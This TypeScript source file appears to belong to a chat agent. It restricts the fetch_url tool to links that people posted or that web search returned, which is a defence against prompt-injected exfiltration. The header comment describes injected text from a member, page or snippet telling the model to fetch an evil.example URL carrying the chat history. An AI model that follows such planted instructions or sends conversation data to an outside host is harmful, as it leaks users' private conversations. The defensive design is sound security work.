/**
 * Which pages an answer may read. A model that has read the chat could be
 * told (by a member, a page, a search snippet) to fetch
 * `https://evil.example/?q=<the chat history>`: the fetch itself would carry
 * the conversation out. So fetch_url reads only links a person put in the
 * conversation (the message answered, and members' messages of the history
 * the model was shown: never the agent's own, which the model wrote) or that
 * this answer's web_search returned. A link is compared whole, query string
 * included (that is where data would ride); only what can't carry data is
 * normalised away: the scheme (http or https), the host's case, a default
 * port, a trailing slash and the fragment.
 */

/** Longer words are not taken for links (fetch_url takes at most 2,000 characters). */
const MAX_LINK_CHARS = 2_000;
const BARE = /^(?:[a-z0-9-]+\.)+[a-z]{2,}(?:\/\S*)?$/i;
const TRAILING = new Set([...".,;:!?)]}>*_"]);

/**
 * `https://…` links and bare `host.tld/…` ones in `text`, as written (trailing punctuation left out). Linear
 * in the text: it is split into words first, each matched once from its start (a hostile message is read here).
 */
export function linksIn(text: string): string[] {
  const found: string[] = [];
  for (const word of text.split(/[\s<>"'`]+/)) {
    if (word.length > MAX_LINK_CHARS) continue;
    const at = word.search(/https?:\/\//i);
    let end = word.length;
    while (end > 0 && TRAILING.has(word[end - 1])) end -= 1;
    let start = at;
    if (at < 0) for (start = 0; start < end && !/[a-z0-9]/i.test(word[start]);) start += 1;
    const link = word.slice(start, end);
    if (at >= 0 ? link.length > "http://".length : BARE.test(link)) found.push(link);
  }
  return found;
}

/** The form two links are compared in, or undefined when `link` is not an http(s) URL. */
export function linkKey(link: string): string | undefined {
  let url: URL;
  try {
    url = new URL(/^https?:\/\//i.test(link) ? link : `https://${link}`);
  } catch {
    return undefined;
  }
  if (url.protocol !== "http:" && url.protocol !== "https:") return undefined;
  const path = url.pathname.replace(/\/+$/, "");
  return `${url.host}${path}${url.search}`;
}

/** The links one answer may read; grows with its search results. */
export class LinkAllowance {
  private readonly keys = new Set<string>();

  /** Allows the links found in `text` (a member's message, search results). */
  addFrom(text: string): void {
    for (const link of linksIn(text)) {
      const key = linkKey(link);
      if (key) this.keys.add(key);
    }
  }

  allows(link: string): boolean {
    const key = linkKey(link);
    return key !== undefined && this.keys.has(key);
  }
}
